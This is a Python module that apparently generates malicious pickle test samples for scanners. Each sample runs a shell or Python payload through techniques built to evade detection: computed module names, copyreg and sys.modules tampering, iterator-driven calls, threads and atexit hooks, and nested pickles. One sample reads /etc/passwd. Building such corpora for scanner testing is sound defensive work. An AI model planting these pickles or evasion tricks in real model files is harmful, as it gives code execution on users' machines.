"""Malicious pickles that compute, register, look up or plant what they will call.

The name of the dangerous function never stands as a plain operand of GLOBAL or STACK_GLOBAL here, or it
is not called by REDUCE: strings are assembled by calls, the extension registry and `sys.modules` are
edited, iterators and mappings do the calling, state is given to objects whose methods were replaced.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

from .assembler import (
    APPENDS,
    BUILD,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ_EX,
    POP,
    PYTHON,
    REDUCE,
    SETITEM,
    SHELL,
    STACK_GLOBAL,
    TUPLE1,
    Op,
    build,
    call,
    evil,
    ext,
    global_,
    new,
    pickle,
    raw,
    shell,
    stack_global,
    text,
    tuple_,
    value,
)
from .sample import Sample, write_bytes

B = "builtins"
SYSTEM = stack_global("os", "system")
EVAL = stack_global(B, "eval")
EXEC = stack_global(B, "exec")
GETATTR = stack_global(B, "getattr")
OS_BY_IMPORT = call(stack_global("importlib", "import_module"), "os")
PARTIAL = call(stack_global("functools", "partial"), SYSTEM, SHELL)
CALC = [SHELL]


def _named(module: Op | str, name: Op | str) -> Op:
    """STACK_GLOBAL on operands that may be computed, then the call."""
    return call(value(module) + value(name) + STACK_GLOBAL, SHELL)


_STRINGS = [
    ("operand_join.pkl", "computed/str-join", _named(call(stack_global(B, "str.join"), "", ["o", "s"]), call(stack_global(B, "str.join"), "", list("system"))), ""),
    ("operand_reversed.pkl", "computed/slice", _named(call(stack_global("operator", "getitem"), "so", call(stack_global(B, "slice"), None, None, -1)), "system"), ""),
    ("operand_rot13.pkl", "computed/codecs-decode", _named(call(stack_global("codecs", "decode"), codecs.encode("os", "rot13"), "rot13"), call(stack_global("codecs", "decode"), codecs.encode("system", "rot13"), "rot13")), ""),
    ("operand_chr.pkl", "computed/chr", _named(call(stack_global("operator", "add"), call(stack_global(B, "chr"), 111), call(stack_global(B, "chr"), 115)), "system"), ""),
    ("operand_concatenated.pkl", "computed/str-add", _named(call(stack_global(B, "str.__add__"), "o", "s"), call(stack_global(B, "str.__add__"), "sys", "tem")), ""),
    ("operand_replaced.pkl", "computed/str-replace", _named(call(stack_global(B, "str.replace"), "torch_os", "torch_", ""), "system"), ""),
    ("operand_lowered.pkl", "computed/str-lower", _named(call(stack_global(B, "str.lower"), "OS"), call(stack_global(B, "str.strip"), " system ")), ""),
    ("operand_formatted.pkl", "computed/str-format", _named(call(stack_global(B, "str.format"), "{}{}", "o", "s"), "system"), ""),
    ("operand_base64.pkl", "computed/base64", _named(call(stack_global(B, "bytes.decode"), call(stack_global("base64", "b64decode"), base64.b64encode(b"os"))), "system"), ""),
    ("operand_bytes_decoded.pkl", "computed/str-of-bytes", _named(call(stack_global(B, "str"), b"os", "ascii"), "system"), ""),
    ("operand_maketrans.pkl", "computed/str-translate", _named(call(stack_global(B, "str.translate"), "pt", {112: "o", 116: "s"}), "system"), ""),
    ("operand_from_object.pkl", "computed/attribute-of-library", _named(call(GETATTR, stack_global("posixpath", "os"), "__name__"), "system"), ""),
    ("source_zlib.pkl", "computed/zlib-then-exec", call(EXEC, call(stack_global("zlib", "decompress"), zlib.compress(PYTHON.encode()))), "https://github.com/protectai/modelscan/issues/338"),
    ("source_hexadecimal.pkl", "computed/fromhex-then-exec", call(EXEC, call(stack_global(B, "bytes.fromhex"), PYTHON.encode().hex())), ""),
    ("source_compiled.pkl", "computed/compile-then-eval", call(EVAL, call(stack_global(B, "compile"), PYTHON, "model", "exec")), ""),
    ("argument_from_environment.pkl", "computed/argument", call(SYSTEM, call(stack_global("os", "path.expandvars"), SHELL)), ""),
]  # fmt: skip

_REGISTRY = [
    ("extension_1.pkl", "pickle/ext1", call(stack_global("copyreg", "add_extension"), "os", "system", 240) + POP + call(ext(240), SHELL), ""),
    ("extension_2.pkl", "pickle/ext2", call(stack_global("copyreg", "add_extension"), "os", "system", 4242) + POP + call(ext(4242), SHELL), ""),
    ("extension_4.pkl", "pickle/ext4", call(stack_global("copyreg", "add_extension"), "os", "system", 70000) + POP + call(ext(70000), SHELL), ""),
    ("extension_inverted.pkl", "pickle/ext-inverted-registry", stack_global("copyreg", "_inverted_registry") + value(99) + tuple_("os", "system") + SETITEM + POP + call(ext(99), SHELL), ""),
    ("extension_cached.pkl", "pickle/ext-cache", stack_global("copyreg", "_extension_cache") + value(98) + SYSTEM + SETITEM + POP + call(ext(98), SHELL), ""),
    ("sys_modules_override.pkl", "pickle/sys-modules-override", stack_global("sys", "modules") + text("sklearn_weights") + stack_global("sys", "modules.get") + text("os") + TUPLE1 + REDUCE + SETITEM + POP + _named("sklearn_weights", "system"), "https://github.com/mmaitre314/picklescan"),
    ("non_ascii_module.pkl", "pickle/global-not-ascii", stack_global("sys", "modules") + text("modèle") + OS_BY_IMPORT + SETITEM + POP + Op("cmodèle\nsystem\n".encode()) + text(SHELL) + TUPLE1 + REDUCE, ""),
    ("renamed_by_compat.pkl", "pickle/compat-mapping-planted", stack_global("_compat_pickle", "NAME_MAPPING") + tuple_("collections", "Weights") + tuple_("os", "system") + SETITEM + POP + Op(b"\x80\x02") + global_("collections", "Weights") + text(SHELL) + TUPLE1 + REDUCE, ""),
    ("dispatch_planted.pkl", "pickle/unpickler-dispatch-patched", stack_global("pickle", "_Unpickler.dispatch") + value(0x4E) + SYSTEM + SETITEM + shell("posix") , ""),
]  # fmt: skip

_PYTHON2 = [
    ("python2_builtin.pkl", "python2/__builtin__", global_("__builtin__", "eval") + Op(b"(V" + PYTHON.encode() + b"\ntR"), ""),
    ("python2_commands.pkl", "python2/commands", global_("commands", "getoutput") + Op(b"(V" + SHELL.encode() + b"\ntR"), ""),
    ("python2_reduce.pkl", "python2/reduce-of-getattr", call(call(global_("__builtin__", "reduce"), global_("__builtin__", "getattr"), Op(b"(Vsystem\nl"), call(global_("__builtin__", "__import__"), Op(b"Vos\n"))), Op(b"V" + SHELL.encode() + b"\n")), ""),
    ("python2_cpickle.pkl", "python2/cPickle-nested", call(global_("cPickle", "loads"), raw(evil(2))), ""),
    ("python2_copy_reg.pkl", "python2/copy_reg", call(global_("copy_reg", "_reconstructor"), global_("subprocess", "Popen"), global_("subprocess", "Popen"), Op(b"(Vsh\nV-c\nV" + SHELL.encode() + b"\nl")), ""),
    ("python2_urllib.pkl", "python2/urllib", call(global_("urllib", "urlretrieve"), Op(b"Vfile:///etc/passwd\n"), Op(b"Vviolet_marker\n")), ""),
    ("python2_itertools.pkl", "python2/itertools-imap", new(global_("__builtin__", "tuple"), call(global_("itertools", "imap"), global_("os", "system"), value([SHELL]))), ""),
]  # fmt: skip

_CONSUMERS = [
    ("newobj_tuple_map.pkl", "consumer/newobj-tuple-of-map", new(stack_global(B, "tuple"), call(stack_global(B, "map"), SYSTEM, CALC)), "GHSA-m6fh-58r7-x697"),
    ("newobj_bytes_map.pkl", "consumer/newobj-bytes-of-map", new(stack_global(B, "bytes"), new(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("newobj_frozenset_map.pkl", "consumer/newobj-frozenset-of-map", new(stack_global(B, "frozenset"), new(stack_global(B, "map"), EVAL, [PYTHON])), ""),
    ("newobj_ex_map.pkl", "consumer/newobj-ex", stack_global(B, "tuple") + tuple_(new(stack_global(B, "map"), SYSTEM, CALC)) + value({}) + NEWOBJ_EX, ""),
    ("list_of_map.pkl", "consumer/list-of-map", call(stack_global(B, "list"), call(stack_global(B, "map"), EXEC, [PYTHON])), ""),
    ("filter_consumed.pkl", "consumer/filter", new(stack_global(B, "tuple"), new(stack_global(B, "filter"), SYSTEM, CALC)), ""),
    ("zip_consumed.pkl", "consumer/zip-of-map", call(stack_global(B, "dict"), new(stack_global(B, "zip"), ["a"], new(stack_global(B, "map"), SYSTEM, CALC))), ""),
    ("starmap_consumed.pkl", "consumer/itertools-starmap", call(stack_global("collections", "deque"), call(stack_global("itertools", "starmap"), SYSTEM, [(SHELL,)])), ""),
    ("accumulate_consumed.pkl", "consumer/itertools-accumulate", call(stack_global(B, "list"), call(stack_global("itertools", "accumulate"), [PYTHON, {}], EXEC)), ""),
    ("takewhile_consumed.pkl", "consumer/itertools-takewhile", call(stack_global(B, "sum"), call(stack_global("itertools", "takewhile"), SYSTEM, CALC)), ""),
    ("groupby_consumed.pkl", "consumer/itertools-groupby", call(stack_global(B, "list"), call(stack_global("itertools", "groupby"), CALC, SYSTEM)), ""),
    ("join_consumed.pkl", "consumer/str-join-of-map", call(stack_global(B, "bytearray"), new(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("ordered_dict_consumed.pkl", "consumer/ordered-dict", call(stack_global("collections", "OrderedDict"), call(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("counter_consumed.pkl", "consumer/counter", call(stack_global("collections", "Counter"), call(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("deque_appends.pkl", "consumer/extend-method", EMPTY_LIST + MARK + call(stack_global(B, "list.extend"), [], call(stack_global(B, "map"), SYSTEM, CALC)) + APPENDS, ""),
    ("iter_sentinel.pkl", "consumer/iter-with-sentinel", call(stack_global(B, "list"), call(stack_global(B, "iter"), PARTIAL, 0)), ""),
    ("any_all.pkl", "consumer/any", call(stack_global(B, "any"), call(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("max_key.pkl", "consumer/comparison", call(stack_global(B, "max"), [call(call(stack_global("functools", "cmp_to_key"), EXEC), {}), call(call(stack_global("functools", "cmp_to_key"), EXEC), PYTHON)]), ""),
    ("reduce_function.pkl", "consumer/functools-reduce", call(stack_global("functools", "reduce"), EXEC, [PYTHON, {}]), ""),
    ("defaultdict_missing.pkl", "consumer/defaultdict-getitem", call(stack_global("operator", "getitem"), call(stack_global("collections", "defaultdict"), PARTIAL), "w"), ""),
    ("defaultdict_dunder.pkl", "consumer/defaultdict-__missing__", call(stack_global("collections", "defaultdict.__missing__"), call(stack_global("collections", "defaultdict"), PARTIAL), "w"), ""),
    ("re_sub.pkl", "consumer/re-sub", call(stack_global("re", "sub"), ".+", call(EVAL, "lambda match: " + PYTHON), "x"), ""),
    ("numpy_vectorize.pkl", "consumer/numpy-vectorize", call(call(stack_global("numpy", "vectorize"), SYSTEM), CALC), ""),
    ("numpy_ufunc.pkl", "consumer/numpy-frompyfunc", call(call(stack_global("numpy", "frompyfunc"), SYSTEM, 1, 1), SHELL), ""),
    ("numpy_fromiter.pkl", "consumer/numpy-fromiter", call(stack_global("numpy", "fromiter"), call(stack_global(B, "map"), SYSTEM, CALC), "i8"), ""),
    ("pandas_pipe.pkl", "consumer/pandas-pipe", call(stack_global("pandas.core.common", "pipe"), SHELL, SYSTEM), ""),
]  # fmt: skip

_CALLERS = [
    ("partial_called.pkl", "caller/functools-partial", call(PARTIAL), ""),
    ("partial_state.pkl", "caller/partial-with-state", Op(call(stack_global("functools", "partial"), stack_global(B, "len"))) + tuple_(SYSTEM, (SHELL,), {}, {}) + BUILD + EMPTY_TUPLE + REDUCE, ""),
    ("operator_call.pkl", "caller/operator-call", call(stack_global("operator", "call"), SYSTEM, SHELL), "CVE-2025-54412"),
    ("operator_methodcaller.pkl", "caller/operator-methodcaller", call(call(stack_global("operator", "methodcaller"), "system", SHELL), OS_BY_IMPORT), "GHSA-955r-x9j8-7rhh"),
    ("operator_attrgetter.pkl", "caller/operator-attrgetter", call(call(call(stack_global("operator", "attrgetter"), "system"), OS_BY_IMPORT), SHELL), "GHSA-m273-6v24-x4m4"),
    ("operator_itemgetter.pkl", "caller/operator-itemgetter", call(call(call(stack_global("operator", "itemgetter"), "system"), call(stack_global(B, "vars"), OS_BY_IMPORT)), SHELL), "GHSA-m273-6v24-x4m4"),
    ("getattr_import.pkl", "caller/getattr-of-import", call(call(GETATTR, call(stack_global(B, "__import__"), "os"), "system"), SHELL), ""),
    ("getattr_static.pkl", "caller/inspect-getattr-static", call(call(stack_global("inspect", "getattr_static"), OS_BY_IMPORT, "system"), SHELL), "https://huggingface.co/xry6/huntr-picklescan-bypass-poc"),
    ("object_getattribute.pkl", "caller/object-getattribute", call(call(stack_global(B, "object.__getattribute__"), OS_BY_IMPORT, "system"), SHELL), ""),
    ("module_dict_get.pkl", "caller/dict-get-of-vars", call(call(stack_global(B, "dict.get"), call(GETATTR, OS_BY_IMPORT, "__dict__"), "system"), SHELL), ""),
    ("method_type.pkl", "caller/types-methodtype", call(call(stack_global("types", "MethodType"), SYSTEM, SHELL)), ""),
    ("dunder_call.pkl", "caller/__call__", call(stack_global("os", "system.__call__"), SHELL), ""),
    ("reduce_getattr.pkl", "caller/reduce-of-getattr", call(call(stack_global("functools", "reduce"), GETATTR, ["path", "os", "system"], OS_BY_IMPORT), SHELL), ""),
    ("reconstructor.pkl", "caller/copyreg-reconstructor", call(stack_global("copyreg", "_reconstructor"), stack_global("subprocess", "Popen"), stack_global("subprocess", "Popen"), ["sh", "-c", SHELL]), ""),
    ("newobj_function.pkl", "caller/copyreg-newobj", call(stack_global("copyreg", "__newobj__"), stack_global(B, "tuple"), call(stack_global(B, "map"), SYSTEM, CALC)), ""),
    ("type_built.pkl", "caller/class-built-by-type", call(stack_global("operator", "getitem"), call(call(stack_global(B, "type"), "Weights", (stack_global(B, "dict"),), {"__missing__": SYSTEM})), SHELL), ""),
    ("function_type.pkl", "caller/function-of-marshalled-code", call(call(stack_global("types", "FunctionType"), call(stack_global("marshal", "loads"), raw(marshal.dumps(compile(PYTHON, "model", "exec")))), call(stack_global(B, "globals")))), "GHSA-565g-hwwr-4pp3"),
    ("lru_cache.pkl", "caller/decorator", call(call(stack_global("functools", "lru_cache"), SYSTEM), SHELL), ""),
    ("singledispatch.pkl", "caller/singledispatch", call(call(stack_global("functools", "singledispatch"), SYSTEM), SHELL), ""),
    ("contextvars_run.pkl", "caller/contextvars-run", call(stack_global("contextvars", "Context.run"), call(stack_global("contextvars", "copy_context")), SYSTEM, SHELL), ""),
    ("thread_started.pkl", "caller/thread", call(stack_global("_thread", "start_new_thread"), SYSTEM, (SHELL,)) + POP + call(stack_global("time", "sleep"), 0.3), ""),
    ("thread_run.pkl", "caller/thread-run-with-state", call(stack_global("threading", "Thread.run"), build(new(stack_global("threading", "Thread")), {"_target": SYSTEM, "_args": (SHELL,), "_kwargs": {}})), ""),
    ("atexit_registered.pkl", "deferred/atexit", call(stack_global("atexit", "register"), SYSTEM, SHELL), ""),
    ("finalizer.pkl", "deferred/weakref-finalize", call(stack_global("weakref", "finalize"), call(stack_global("collections", "UserDict")), SYSTEM, SHELL), ""),
    ("signal_handler.pkl", "deferred/signal", call(stack_global("signal", "signal"), 14, call(EVAL, "lambda *details: " + PYTHON)) + POP + call(stack_global("signal", "raise_signal"), 14), ""),
    ("exit_callback.pkl", "deferred/exit-stack", call(stack_global("contextlib", "ExitStack.close"), build(call(stack_global("contextlib", "ExitStack")), {"_exit_callbacks": call(stack_global("collections", "deque"), [(True, call(EVAL, "lambda *details: " + PYTHON))])})), ""),
    ("future_callback.pkl", "deferred/executor", call(stack_global("concurrent.futures", "ThreadPoolExecutor.submit"), call(stack_global("concurrent.futures", "ThreadPoolExecutor"), 1), SYSTEM, SHELL), ""),
]  # fmt: skip

_NESTED = [
    ("nested_loads.pkl", "nested/pickle-loads", call(stack_global("pickle", "loads"), evil()), "GHSA-84r2-jw7c-4r5q"),
    ("nested_c_loads.pkl", "nested/_pickle-loads", call(stack_global("_pickle", "loads"), evil(5)), "GHSA-84r2-jw7c-4r5q"),
    ("nested_unpickler.pkl", "nested/unpickler-load", call(stack_global("_pickle", "Unpickler.load"), call(stack_global("_pickle", "Unpickler"), call(stack_global("_io", "BytesIO"), evil()))), ""),
    ("nested_three_deep.pkl", "nested/three-deep", call(stack_global("pickle", "loads"), pickle(call(stack_global("pickle", "loads"), pickle(call(stack_global("pickle", "loads"), evil()))))), ""),
    ("nested_base64.pkl", "nested/base64", call(stack_global("pickle", "loads"), call(stack_global("base64", "b64decode"), base64.b64encode(evil()))), ""),
    ("nested_xor.pkl", "nested/zlib", call(stack_global("pickle", "loads"), call(stack_global("zlib", "decompress"), zlib.compress(evil()))), ""),
    ("nested_forking.pkl", "nested/forking-pickler", call(stack_global("multiprocessing.reduction", "ForkingPickler.loads"), evil()), ""),
    ("nested_grammar.pkl", "nested/grammar-loads", call(stack_global("lib2to3.pgen2.grammar", "Grammar.loads"), call(stack_global("types", "SimpleNamespace")), evil()), "GHSA-f54q-57x4-jg88"),
    ("nested_marshalled.pkl", "nested/multiprocessing-connection", call(stack_global("multiprocessing.connection", "_ForkingPickler.loads"), evil()), ""),
]  # fmt: skip

_NEEDS: dict[str, tuple[str, ...]] = {"numpy": ("numpy",), "pandas": ("pandas",), "nested_grammar.pkl": ("lib2to3",)}
_PROTOCOL_2 = {row[0] for row in _PYTHON2}
_LOADERS = {"dispatch_planted.pkl": "pickle-python"}


def _sample(name: str, technique: str, body: Op, source: str) -> Sample:
    content = pickle(body, 2 if name in _PROTOCOL_2 else 4)
    needs = _NEEDS.get(name) or _NEEDS.get(name.partition("_")[0], ())
    return Sample(
        name, technique, True, True, write_bytes(name, lambda: content), _LOADERS.get(name, "pickle"), needs, source
    )


SAMPLES = tuple(
    _sample(*row) for table in (_STRINGS, _REGISTRY, _PYTHON2, _CONSUMERS, _CALLERS, _NESTED) for row in table
)
